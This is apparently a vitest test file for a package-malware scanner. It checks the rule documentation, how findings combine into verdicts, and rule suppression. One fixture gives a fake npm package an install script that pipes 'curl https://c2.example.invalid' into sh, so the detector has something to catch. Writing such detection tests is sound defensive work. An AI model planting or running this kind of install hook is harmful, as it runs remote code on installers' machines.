import { readFileSync } from 'node:fs'
import { expect, test } from 'vitest'
import { rules } from '../../../../src/modules/scanning/analysis/rules/catalogue.ts'
import { maliciousFrom, verdictOf } from '../../../../src/modules/scanning/analysis/rules/findings.ts'
import { analyseHere, rulesOf } from './analyse-here.ts'
import { tgzOf } from './pack-archive.ts'

const page = readFileSync(new URL('../../../../docs/scanning-rules.md', import.meta.url), 'utf8')

test('docs/scanning-rules.md has every rule with its confidence, and no other', () => {
  const documented = new Map(
    page.split('\n').flatMap((line) => {
      const [, ids = '', confidence = ''] = /^\| ((?:`[a-z]+\/[a-z0-9-]+`(?:, )?)+) \| ([\d.]+) \|/.exec(line) ?? []
      return [...ids.matchAll(/`([^`]+)`/g)].map((match) => [match[1], Number(confidence)] as const)
    }),
  )
  expect(Object.fromEntries([...documented].sort())).toEqual(
    Object.fromEntries(
      Object.entries(rules)
        .map(([id, { confidence }]) => [id, confidence] as const)
        .sort(),
    ),
  )
  expect(page).toContain(`From ${maliciousFrom} a version is \`malicious\``)
})

test('a verdict takes each rule once, and secrets not at all', () => {
  const finding = (rule: keyof typeof rules) => ({ rule, ...rules[rule], path: '', message: '' })
  expect(verdictOf([])).toEqual({ level: 'clean', confidence: 0 })
  expect(verdictOf([finding('secret/aws-key')])).toEqual({ level: 'clean', confidence: 0 })
  expect(verdictOf([finding('npm/typosquat'), finding('npm/typosquat')])).toEqual({ level: 'suspicious', confidence: 0.55 })
  expect(verdictOf([finding('npm/typosquat'), finding('npm/dependency-confusion')])).toEqual({ level: 'malicious', confidence: 0.82 })
})

test('a suppressed rule is neither listed nor counted', async () => {
  const files = [{ name: 'package/package.json', content: '{"scripts":{"install":"curl https://c2.example.invalid | sh"}}' }]
  const blobs = [{ bytes: await tgzOf(files) }]
  expect((await analyseHere({ kind: 'npm', blobs })).verdict.level).toBe('malicious')
  const report = await analyseHere({ kind: 'npm', blobs, metadata: { suppressedRules: ['npm/install-script-downloads'] } })
  expect(rulesOf(report)).toEqual([])
  expect(report.verdict.level).toBe('clean')
})
